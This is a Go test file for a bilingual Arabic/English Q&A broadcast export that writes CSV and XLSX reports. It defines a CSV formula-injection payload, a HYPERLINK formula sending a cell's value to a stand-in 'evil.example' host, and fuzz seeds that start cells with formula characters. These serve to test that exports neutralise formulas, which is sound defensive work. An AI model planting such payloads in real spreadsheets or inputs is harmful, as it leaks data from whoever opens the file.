package live_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"majlis/bots/web/live"
	"majlis/bots/web/page/pagetest"
	"majlis/flows"
	domain "majlis/flows/live"
)

var noon = time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC) // 12:00 in Riyadh

const attack = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// sitting is the log of a broadcast in which somebody tried to smuggle a formula
// to staff.
func sitting() (domain.Broadcast, []domain.Event) {
	b := domain.Broadcast{
		ID: "b1", Title: flows.Text{Ar: "لقاء الإسكان", En: "Housing hour"}, Service: "unheard-of", Delay: 20 * time.Second, StartsAt: noon,
	}
	var events []domain.Event
	add := func(minutes int, kind domain.EventKind, d domain.Data) {
		at := noon.Add(time.Duration(minutes) * time.Minute)
		events = append(events, domain.Event{Broadcast: "b1", Seq: int64(len(events) + 1), At: at, Kind: kind, Data: d})
	}
	add(0, domain.EventStatus, domain.Data{Status: domain.OnAir})
	add(1, domain.EventAsked, domain.Data{Question: "q1", Person: "person-1", Channel: "telegram", Lang: "ar", Text: "متى موعد\nالدفعة؟"})
	add(1, domain.EventGrouped, domain.Data{Question: "q1", Group: "g1", Text: "متى موعد الدفعة؟", State: domain.Approved})
	add(2, domain.EventSupported, domain.Data{Question: "m1", Person: "person-2", Channel: "web", Lang: "en", Group: "g1"})
	add(3, domain.EventAsked, domain.Data{Question: "q2", Person: "person-3", Channel: "web", Lang: "en", Text: attack})
	add(3, domain.EventGrouped, domain.Data{Question: "q2", Group: "g2", Text: attack, State: domain.Approved})
	add(4, domain.EventState, domain.Data{Group: "g1", State: domain.Now})
	add(9, domain.EventState, domain.Data{Group: "g1", State: domain.Answered})
	add(9, domain.EventState, domain.Data{Group: "g2", State: domain.Declined, Reason: "off_topic"})
	add(10, domain.EventStatus, domain.Data{Status: domain.Closed})
	return b, events
}

func tables(t testing.TB, lang string) (questions, summary live.Sheet) {
	t.Helper()
	b, events := sitting()
	board := domain.NewBoard(b.ID)
	for _, e := range events {
		if err := board.Apply(e); err != nil {
			t.Fatal(err)
		}
	}
	r, err := domain.BuildReport(b, events)
	if err != nil {
		t.Fatal(err)
	}
	m := pagetest.Ministry(t)
	x := live.Export{Texts: pagetest.ReadTexts(t), Services: m.Services, Zone: m.Zone.Location(), Lang: lang}
	if summary, err = x.Summary(r); err != nil {
		t.Fatal(err)
	}
	return x.Questions(domain.Rows(b, board)), summary
}

// english are words of the room that tells citizens.
func english(t testing.TB) func(key string) string {
	texts := pagetest.ReadTexts(t)
	return func(key string) string { return texts.Text("en", key, nil) }
}

func TestQuestionsTable(t *testing.T) {
	word := english(t)
	questions, _ := tables(t, "en")
	want := [][]any{
		{"Group number", "Question of the group", "As it was asked", "Language", "Channel", "Asked at", "What became of it", "Reason", "Written answer", "Time in the recording", "People who ask it"},
		{1, "متى موعد الدفعة؟", "متى موعد\nالدفعة؟", "Arabic", "Telegram", "2026-11-22 12:01:00", word("live.fate.answered_live"), "", "", "0:04:20", 2},
		{1, "متى موعد الدفعة؟", "me too", "English", "Web chat", "2026-11-22 12:02:00", word("live.fate.answered_live"), "", "", "0:04:20", 2},
		{2, attack, attack, "English", "Web chat", "2026-11-22 12:03:00", word("live.fate.declined"), word("live.reason.off_topic"), "", "", 1},
	}
	if diff := cmp.Diff(want, questions.Rows); diff != "" {
		t.Error(diff)
	}
}

// Every word of the tables is in both languages, and none is about a person.
func TestTablesInBothLanguages(t *testing.T) {
	for _, lang := range []string{"ar", "en"} {
		questions, summary := tables(t, lang)
		text := fmt.Sprint(questions, summary)
		for _, bad := range []string{"⟦", "person-", "unheard-of"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s: %q in %s", lang, bad, text)
			}
		}
	}
}

func TestSummary(t *testing.T) {
	word := english(t)
	_, summary := tables(t, "en")
	rows := map[string][]any{}
	for _, row := range summary.Rows {
		if len(row) > 0 {
			rows[row[0].(string)] = row[1:]
		}
	}
	for label, want := range map[string][]any{
		"Broadcast": {"Housing hour"}, "On air at": {"2026-11-22 12:00:00"}, "Participants": {3},
		"Answered, of what was not withdrawn": {"66.7 %"}, "Median wait": {"0:07:00"}, "Peak minute": {"2026-11-22 12:01:00"},
		"Total": {2, 1}, word("live.fate.answered_live"): {1, 1}, word("live.reason.off_topic"): {1, 0},
		"Other topics": {2, 1, 3, 2, "0:07:00"}, "Telegram": {1, 0, 1, 1, "0:08:00"}, attack: {2, "0:06:00"},
	} {
		if diff := cmp.Diff(want, rows[label]); diff != "" {
			t.Errorf("%s: %s", label, diff)
		}
	}
}

func TestCSV(t *testing.T) {
	for _, s := range two(tables(t, "ar")) {
		var out bytes.Buffer
		if err := live.WriteCSV(&out, s); err != nil {
			t.Fatal(err)
		}
		body, marked := strings.CutPrefix(out.String(), "\ufeff")
		if !marked || strings.Count(body, "\r\n") != len(s.Rows) || strings.Count(body, "\n") != len(s.Rows) {
			t.Errorf("%s: byte order mark %v, lines for %d rows:\n%s", s.Name, marked, len(s.Rows), body)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || len(rows) == 0 {
			t.Fatal(err)
		}
		if s.Name == "الأسئلة" && (rows[3][2] != "'"+attack || rows[1][2] != "متى موعد الدفعة؟") {
			t.Errorf("%q", rows)
		}
	}
}

func two(a, b live.Sheet) []live.Sheet { return []live.Sheet{a, b} }

// No cell of a CSV begins a formula, whether cells are parted at commas,
// semicolons or tabs; and nothing of what was written is lost but breaks.
func FuzzCSV(f *testing.F) {
	for _, s := range []string{attack, "+966", "-1", "@x", "\t=1", "\r=1", "a;=1+1", " =1", "\u200f=1", "＝1", "plain", "a,\"b", "؛=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var out bytes.Buffer
		if err := live.WriteCSV(&out, live.Sheet{Rows: [][]any{{"first", s}}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("%q: %v, %q", s, err, rows)
		}
		for _, cell := range strings.FieldsFunc(rows[0][1], func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if cell = strings.TrimLeft(cell, " \u200f\u200e\u2067\ufeff"); cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
				t.Fatalf("%q became %q", s, rows[0][1])
			}
		}
		if letters(s) != letters(rows[0][1]) {
			t.Fatalf("%q became %q", s, rows[0][1])
		}
	})
}

// letters leaves out what the writer may change.
func letters(s string) string {
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune("' \t\r\n\v\f", r) {
			return -1
		}
		return r
	}, s)
}

func TestXLSX(t *testing.T) {
	for lang, fromRight := range map[string]bool{"ar": true, "en": false} {
		sheets := two(tables(t, lang))
		var out bytes.Buffer
		if err := live.WriteXLSX(&out, lang, sheets...); err != nil {
			t.Fatal(err)
		}
		for range 3 {
			var again bytes.Buffer
			if err := live.WriteXLSX(&again, lang, sheets...); err != nil || !bytes.Equal(out.Bytes(), again.Bytes()) {
				t.Errorf("%s: other bytes the second time, %v", lang, err)
			}
		}
		book, err := excelize.OpenReader(&out)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = book.Close() }()
		for i, s := range sheets {
			if book.GetSheetName(i) != s.Name {
				t.Errorf("sheet %d is %s, want %s", i, book.GetSheetName(i), s.Name)
			}
			view, err := book.GetSheetView(s.Name, 0)
			if err != nil || view.RightToLeft == nil || *view.RightToLeft != fromRight {
				t.Errorf("%s %s: %v, %v", lang, s.Name, err, view.RightToLeft)
			}
			sameCells(t, book, s)
		}
	}
}

func sameCells(t *testing.T, book *excelize.File, s live.Sheet) {
	t.Helper()
	for y, row := range s.Rows {
		for x, want := range row {
			cell, err := excelize.CoordinatesToCellName(x+1, y+1)
			if err != nil {
				t.Fatal(err)
			}
			got, err := book.GetCellValue(s.Name, cell)
			formula, _ := book.GetCellFormula(s.Name, cell)
			kind, _ := book.GetCellType(s.Name, cell)
			_, number := want.(int)
			if err != nil || got != fmt.Sprint(want) || formula != "" || (kind == excelize.CellTypeSharedString) == number {
				t.Errorf("%s %s: %q of type %d, formula %q, want %v", s.Name, cell, got, kind, formula, want)
			}
		}
	}
}

// A sheet that can't be named so is an error, not a broken file.
func TestXLSXRefuses(t *testing.T) {
	if err := live.WriteXLSX(&bytes.Buffer{}, "en", live.Sheet{Name: "a/b"}); err == nil {
		t.Error("no error")
	}
}

func BenchmarkXLSX(b *testing.B) {
	questions, _ := tables(b, "ar")
	row := questions.Rows[1]
	for len(questions.Rows) < 50_000 {
		questions.Rows = append(questions.Rows, row)
	}
	for b.Loop() {
		if err := live.WriteXLSX(io.Discard, "ar", questions); err != nil {
			b.Fatal(err)
		}
	}
}
